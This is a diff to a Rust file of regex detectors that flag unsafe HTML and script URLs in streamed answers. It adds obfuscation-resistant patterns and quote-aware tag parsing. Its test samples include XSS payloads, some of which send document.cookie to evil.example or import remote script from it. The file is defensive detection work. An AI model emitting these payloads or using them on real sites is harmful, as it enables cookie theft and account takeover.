@@ -167,7 +167,7 @@ pub static DETECTORS: &[Detector] = &[
         "event_handler",
         DataClass::UnsafeOutput,
         "Inline event handler in a streamed answer",
-        r#"(?i:on[a-z]{3,20})\s{0,4}=\s{0,4}(?:"[^"]{0,400}"?|'[^']{0,400}'?|[^\s>"'\x60]{1,400})"#,
+        r#"(?i:on[a-z]{3,20})\s{0,16}=\s{0,16}(?:"[^"]{0,400}"?|'[^']{0,400}'?|[^\s>"']{1,400})"#,
         1.0,
         Severity::High,
     )
@@ -179,6 +179,8 @@ pub static DETECTORS: &[Detector] = &[
             "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
             "<svg/onload=alert(1)>",
             "<div ONMOUSEOVER='steal()'>hover</div>",
+            "<img alt=\">\" src=x onerror=alert(1)>",
+            "<img src=x onerror     =alert(1)>",
             "<img alt=\"a long alt text that pads the tag so that its opening bracket is far behind the handler attribute\" onerror=import('//evil.example/x.js')>",
         ],
         &[
@@ -193,7 +195,7 @@ pub static DETECTORS: &[Detector] = &[
         "script_url_attribute",
         DataClass::UnsafeOutput,
         "Script URL in an HTML attribute of a streamed answer",
-        r#"(?i:href|src|action|formaction|xlink:href|data|poster|background)\s{0,4}=\s{0,4}(?:"[^"]{0,600}"?|'[^']{0,600}'?|[^\s>"'\x60]{1,600})"#,
+        r#"(?i:href|src|action|formaction|xlink:href|data|poster|background|values|to|from)\s{0,4}=\s{0,4}(?:"[^"]{0,600}"?|'[^']{0,600}'?|[^\s>"'\x60]{1,600})"#,
         1.0,
         Severity::High,
     )
@@ -205,6 +207,7 @@ pub static DETECTORS: &[Detector] = &[
             "<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">claim</a>",
             "<a href=\"java&#x09;script:alert(1)\">x</a>",
             "<form action='&#106;avascript:go()'>",
+            "<svg><animate attributeName=href values=\"&#106;avascript:alert(1)\"/></svg>",
         ],
         &[
             "<a href=\"https://example.com/docs\">docs</a>",
@@ -238,7 +241,7 @@ pub static DETECTORS: &[Detector] = &[
         "script_url",
         DataClass::UnsafeOutput,
         "Script URL in a streamed answer",
-        r#"(?i:javascript|vbscript)\s{0,4}:[^\s"'<>)\x60]{1,400}|(?i:data)\s{0,4}:\s{0,4}(?i:text/html)[^\s"'<>)\x60]{0,400}"#,
+        r#"(?i:javascript|vbscript)\s{0,4}\\?:[^\s"'<>)\x60]{1,400}|(?i:data)\s{0,4}\\?:\s{0,4}(?i:text/html)[^\s"'<>)\x60]{0,400}"#,
         1.0,
         Severity::High,
     )
@@ -250,6 +253,7 @@ pub static DETECTORS: &[Detector] = &[
             "Click <javascript:alert(document.cookie)>",
             "go to JavaScript:fetch('//evil.example')",
             "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "[x](javascript\\:alert(1))",
         ],
         &[
             "JavaScript: the good parts",
@@ -290,11 +294,26 @@ fn after_tag_space(before: &[u8], value: &[u8], _after: &[u8]) -> bool {
     {
         return false;
     }
+    // from the last `<`, a `>` outside quoted values closes the tag
     let open = before.iter().rposition(|c| *c == b'<');
+    let closed_after = |o: usize| {
+        let mut quote = None;
+        before[o..].iter().any(|&c| match quote {
+            Some(q) if c == q => {
+                quote = None;
+                false
+            }
+            Some(_) => false,
+            None if c == b'"' || c == b'\'' => {
+                quote = Some(c);
+                false
+            }
+            None => c == b'>',
+        })
+    };
     let close = before.iter().rposition(|c| *c == b'>');
     match (open, close) {
-        (Some(o), Some(c)) => o > c,
-        (Some(_), None) => true,
+        (Some(o), _) => !closed_after(o),
         (None, Some(_)) => false,
         (None, None) => {
             let code = value
